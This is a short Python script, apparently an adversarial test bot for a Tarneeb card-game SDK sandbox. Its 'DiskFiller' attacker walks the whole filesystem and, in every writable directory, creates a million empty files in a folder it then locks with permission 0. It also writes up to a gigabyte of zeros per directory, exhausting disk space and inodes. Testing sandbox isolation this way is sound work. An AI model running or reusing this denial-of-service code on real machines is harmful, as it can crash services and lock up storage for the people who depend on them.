"""Writes zeros to every place that lets it, and a million files, and says how far it came."""

import contextlib
import os

from kit import Attacker

from tarneeb_sdk import SeatView, run

CHUNK = bytes(1 << 20)


def writable_places() -> list[str]:
    places = []
    for folder, subfolders, _ in os.walk("/"):
        subfolders[:] = [
            name for name in subfolders if os.path.join(folder, name) not in {"/proc", "/sys"}
        ]
        if os.access(folder, os.W_OK):
            places.append(folder)
    return sorted(places)


def fill(folder: str) -> int:
    written = 0
    with contextlib.suppress(OSError), open(f"{folder}/zeros", "wb", buffering=0) as file:
        while written < 1 << 30:
            written += file.write(CHUNK)
    return written


def litter(folder: str) -> int:
    files = 0
    with contextlib.suppress(OSError):
        os.mkdir(f"{folder}/hidden")
        for files in range(1_000_000):
            os.close(os.open(f"{folder}/hidden/{files}", os.O_CREAT | os.O_WRONLY))
        os.chmod(f"{folder}/hidden", 0)
    return files


class DiskFiller(Attacker):
    def attack(self, view: SeatView) -> None:
        for folder in writable_places():
            print("files", folder, litter(folder), flush=True)
            print("bytes", folder, fill(folder), flush=True)


if __name__ == "__main__":
    run(DiskFiller)
